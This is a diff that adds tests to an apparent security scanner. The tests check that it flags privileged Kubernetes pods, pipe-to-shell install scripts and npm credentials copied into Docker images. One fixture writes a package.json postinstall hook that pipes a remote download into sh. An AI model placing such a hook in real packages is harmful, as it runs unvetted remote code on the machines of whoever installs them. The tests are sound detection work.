@@ -297,3 +297,23 @@ def test_a_key_given_twice_has_its_last_value(tmp_path: Path) -> None:
     privileged = [one.location for one in findings if one.rule == "k8s-privileged"]
     assert [one.partition(":")[0] for one in privileged] == ["on.yaml"]
     assert inspection.unread == ()
+
+
+@pytest.mark.parametrize("odd", ["\U0001f600", "\x7f"])
+def test_json_with_an_emoji_or_a_control_character_is_read(tmp_path: Path, odd: str) -> None:
+    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": odd}, "spec": {"hostPID": True}}
+    write(tmp_path / "pod.json", json.dumps(pod, indent="\t"))
+    scripts = {"description": odd, "scripts": {"postinstall": "curl https://a.net | sh"}}
+    write(tmp_path / "package.json", json.dumps(scripts))
+    write(tmp_path / "raw" / "package.json", json.dumps(scripts, ensure_ascii=False))
+    assert [one.location for one in inspect(tmp_path)[0] if one.rule.startswith("k8s-host")]
+    assert len(lines(tmp_path, "shell-pipe-to-shell")) == 2
+    assert not inspect(tmp_path)[1].skipped
+
+
+def test_settings_of_npm_without_a_credential_may_go_into_an_image(tmp_path: Path) -> None:
+    write(tmp_path / "Dockerfile", "FROM a:1\nCOPY web/.npmrc ./\nCOPY other/.npmrc ./\nUSER a\n")
+    write(tmp_path / "web" / ".npmrc", "engine-strict=true\nregistry=https://npm.shop.net/\n")
+    assert lines(tmp_path, "docker-copied-secret") == ["Dockerfile:3"]
+    write(tmp_path / "web" / ".npmrc", "//npm.shop.net/:_authToken=${NPM_TOKEN}\n")
+    assert lines(tmp_path, "docker-copied-secret") == ["Dockerfile:2", "Dockerfile:3"]
